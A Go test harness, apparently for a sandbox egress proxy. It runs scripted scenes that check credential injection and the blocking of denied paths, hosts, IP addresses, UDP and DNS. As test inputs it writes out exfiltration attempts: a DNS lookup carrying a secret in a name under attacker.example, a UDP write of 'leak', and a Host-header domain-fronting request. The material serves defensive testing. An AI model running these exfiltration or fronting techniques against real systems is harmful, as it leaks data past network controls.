package main

import (
	"errors"
	"fmt"
	"strings"

	"bottled/upstreamtest"
)

// scenes are played in order, each in a bottle of its own.
var scenes = []scene{
	{
		title:  "Allowed: the credential is injected, and taken out of the echo",
		script: `curl -sS https://api.demo.example:$PORT/user`,
		judge: func(out string, reached []upstreamtest.Request) error {
			switch {
			case len(reached) != 1 || reached[0].Header.Get("Authorization") != "Bearer "+token:
				return errors.New("the upstream did not get the credential")
			case strings.Contains(out, token):
				return errors.New("the bottle saw the credential")
			}
			return want(out, "you are at /user")
		},
	},
	{
		title:  "Denied path: the program gets a 403 that says what to do",
		script: `curl -sS -w ' [%{http_code}]' https://api.demo.example:$PORT/users`,
		judge:  denied("[403]"),
	},
	{
		title:  "Denied host: the same, and its name is never looked up",
		script: `curl -sS -w ' [%{http_code}]' https://other.demo.example:$PORT/`,
		judge:  denied("[403]"),
	},
	{
		title:  "Domain fronting: the allowed name in TLS, another one in Host",
		script: `curl -sS -w ' [%{http_code}]' -H 'Host: other.demo.example' https://api.demo.example:$PORT/user`,
		judge:  denied("[421]"),
	},
	{
		title:  "An address instead of a name",
		script: `curl -sSk -w ' [%{http_code}]' https://127.0.0.1.nip.example:$PORT/ ; curl -sSk -m 5 -w ' [%{http_code}]' https://192.0.2.1:$PORT/`,
		judge:  denied("[403]"),
	},
	{
		title:  "DNS: answered here, with an address that means nothing elsewhere",
		script: `getent hosts secret-in-a-name.attacker.example`,
		judge:  denied("198.1"),
	},
	{
		title:  "UDP: refused at once",
		script: `time (echo leak > /dev/udp/192.0.2.1/443)`,
		judge:  denied("not permitted"),
	},
	{
		title:  "What there is to reach: loopback, and nothing else",
		script: `cat /proc/net/dev; id; grep -E 'CapEff|CapBnd|NoNewPrivs|Seccomp:' /proc/self/status; env | grep -c demo-token`,
		judge: func(out string, _ []upstreamtest.Request) error {
			return errors.Join(want(out, "lo:"), want(out, "CapBnd:\t0000000000000000"), want(out, "NoNewPrivs:\t1"))
		},
	},
	{
		title:  "The live table, as the agent can ask for it",
		script: `curl -sS http://_egress-proxy.local/allowlist`,
		judge: func(out string, reached []upstreamtest.Request) error {
			return errors.Join(denied("api.demo.example")(out, reached), want(out, "EGRESS_PROXY_TOKEN_0"))
		},
	},
}

// denied is as it should be when the output says so and nothing reached the upstream.
func denied(say string) func(string, []upstreamtest.Request) error {
	return func(out string, reached []upstreamtest.Request) error {
		if len(reached) > 0 {
			return fmt.Errorf("%d requests reached the upstream", len(reached))
		}
		return want(out, say)
	}
}

func want(out, text string) error {
	if !strings.Contains(out, text) {
		return fmt.Errorf("%q is not in the output", text)
	}
	return nil
}
